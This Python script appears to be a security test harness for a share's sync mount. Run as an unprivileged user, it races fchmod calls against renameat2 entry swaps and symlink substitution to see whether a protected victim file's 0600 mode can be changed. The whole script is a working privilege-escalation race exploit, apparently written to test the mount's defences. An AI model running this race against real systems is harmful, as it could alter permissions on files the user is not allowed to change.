"""Races a share's sync mount as an unprivileged user (run under setpriv).

    swap_race.py SECONDS CHMODS CHMOD_PATH SWAP_DIR A B VICTIM

One process opens CHMOD_PATH (its own file, not following a symlink) and
calls fchmod(fd, 0666) in a loop (through the mount: the kernel checks the
caller may); another swaps entries A and B of SWAP_DIR with
renameat2(RENAME_EXCHANGE) in a loop. SWAP_DIR is either a directory of the
share's backing tree (an entry swapped for a symlink pointing outside) or a
directory of the mount itself (two directories swapped, so an inode resolved
to a path before the swap names another file after it). Both stop after
SECONDS, after CHMODS chmods succeeded, or once VICTIM (a file the user may
not change) is no longer mode 0600; prints how many chmods and swaps
succeeded and VICTIM's mode.
"""

import ctypes
import os
import stat
import sys
import time

RENAME_EXCHANGE = 2


def victim_mode(victim):
    return stat.S_IMODE(os.stat(victim).st_mode)


def main():
    secs = float(sys.argv[1])
    want = int(sys.argv[2])
    target, swap_dir, a, b, victim = sys.argv[3:8]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.renameat2.argtypes = [
        ctypes.c_int,
        ctypes.c_char_p,
        ctypes.c_int,
        ctypes.c_char_p,
        ctypes.c_uint,
    ]
    end = time.monotonic() + secs
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(w)
        os.set_blocking(r, False)
        dfd = os.open(swap_dir, os.O_RDONLY | os.O_DIRECTORY)
        an, bn = a.encode(), b.encode()
        swaps = 0
        while time.monotonic() < end:
            try:
                if os.read(r, 1) == b"":
                    break  # the chmod side is done
            except BlockingIOError:
                pass
            for _ in range(200):
                if libc.renameat2(dfd, an, dfd, bn, RENAME_EXCHANGE) == 0:
                    swaps += 1
        print(f"swaps {swaps}", flush=True)
        os._exit(0)
    os.close(r)
    chmods = 0
    fd = None
    while time.monotonic() < end and chmods < want and victim_mode(victim) == 0o600:
        if fd is None:
            # Its own file (the kernel checks the caller owns it); opened
            # without following, so never the swapped-in symlink.
            try:
                fd = os.open(target, os.O_RDONLY | os.O_NOFOLLOW)
            except OSError:
                continue
        for _ in range(20):
            try:
                os.fchmod(fd, 0o666)
                chmods += 1
            except OSError:
                # EIO: the kernel saw its inode change type (the swap) and
                # gave up on it; open it again.
                try:
                    os.close(fd)
                except OSError:
                    pass
                fd = None
                break
    os.close(w)
    os.waitpid(pid, 0)
    print(f"chmods {chmods}", flush=True)
    print(f"victim {victim_mode(victim):o}", flush=True)


main()
